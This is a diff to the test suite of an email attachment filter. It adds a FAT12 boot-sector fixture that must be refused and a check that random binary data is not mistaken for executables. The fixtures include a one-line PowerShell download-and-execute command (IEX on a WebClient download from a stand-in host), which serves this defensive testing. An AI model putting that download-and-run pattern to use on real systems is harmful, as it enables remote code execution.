@@ -32,6 +32,21 @@ HTA = b'<html><head><HTA:APPLICATION ID="x"></head><body>hi</body></html>\n'
 POWERSHELL = b"$c = New-Object System.Net.WebClient\nIEX ($c.DownloadString('http://x'))\n"
 BATCH = b"@echo off\r\nstart calc.exe\r\n"
 ISO = b"\x00" * 32769 + b"CD001\x01" + b"\x00" * 2000
+
+
+def _fat_image() -> bytes:
+    """A 1.44 MB floppy's FAT12 boot sector and the start of its FAT."""
+    import struct
+
+    sector = bytearray(512)
+    sector[0:11] = b"\xeb\x3c\x90MSDOS5.0"
+    struct.pack_into("<HBHBHHBHHHII", sector, 11, 512, 1, 1, 2, 224, 2880, 0xF0, 9, 18, 2, 0, 0)
+    struct.pack_into("<BBBI11s8s", sector, 36, 0, 0, 0x29, 0x1234, b"NO NAME    ", b"FAT12   ")
+    sector[510:512] = b"\x55\xaa"
+    return bytes(sector) + b"\xf0\xff\xff" + b"\x00" * 4000
+
+
+FAT = _fat_image()
 PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(range(256)) * 40
 
 
@@ -68,6 +83,7 @@ def part(data: bytes, name: bytes | None, ctype: bytes = b"application/octet-str
         (POWERSHELL, b"notes.txt", "Windows script (WSH, HTA or PowerShell)"),
         (BATCH, b"notes.txt", "DOS batch file"),
         (ISO, b"photos.bin", "ISO 9660 CD-ROM filesystem data"),
+        (FAT, b"photos.bin", "DOS/MBR boot sector"),
     ],
 )
 def test_executable_content_is_refused_whatever_its_name(qq, data, name, kind):
@@ -333,3 +349,21 @@ def test_clean_mail_passes_byte_identical(qq, shape):
     assert out.returncode == 0, out.stderr
     assert out.message == message
     assert out.field("verdict") == "accept"
+
+
+def test_random_binary_data_is_not_taken_for_an_executable():
+    """Compressed or encrypted files look random: none may be taken for one of the kinds."""
+    import random
+
+    from qqfilter.filetypes import content_kind
+
+    rng = random.Random(7)
+    flagged = []
+    for _ in range(3000):
+        head = rng.randbytes(4096)
+        if head.startswith((b"MZ", b"\x7fELF", b"L\x00\x00\x00")):
+            continue  # those bytes are what the magic numbers mean
+        kind = content_kind(head, attachment=True)
+        if kind:
+            flagged.append(kind)
+    assert flagged == []
